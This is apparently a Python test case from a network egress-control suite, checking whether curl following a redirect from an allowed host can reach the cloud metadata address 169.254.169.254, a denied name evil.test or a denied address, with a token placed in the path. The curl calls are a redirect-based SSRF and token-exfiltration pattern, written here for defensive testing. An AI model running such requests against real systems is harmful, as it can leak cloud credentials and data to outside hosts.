# SPDX-License-Identifier: Apache-2.0
"""The allowed host sends the client on to a metadata service and to a denied host."""
import os
import subprocess

TITLE = "redirects to metadata and to a denied host (curl -L)"
THREAT = "40"
OBSERVE = "the token arrives at the place that the redirect names"


def attack(c):
    bracket = f"[{c.e}]" if c.family == 6 else c.e
    meta = "169.254.169.254" if c.family == 4 else "[fd00:ec2::254]"
    for name, to in (("metadata", meta), ("denied name", "evil.test"), ("denied address", bracket)):
        with c.step(name) as token:
            r = subprocess.run(["curl", "-gsSfL", f"-{c.family}", "--max-time", "3", "-o", os.devnull,
                                f"http://ok.test/redirect?to=http://{to}/{token}"], capture_output=True, text=True,
                               env=c.curl_env())
            if r.returncode:
                raise OSError(r.stderr.strip())


def seen(record, token, info):
    return token in record["tokens"] and record["kind"] == "http" and record.get("target", "").startswith("/tk") or \
        token in record["tokens"] and record["dst"] in ("169.254.169.254", "198.51.100.20", "fd00:ec2::254", "2001:db8:100::20")
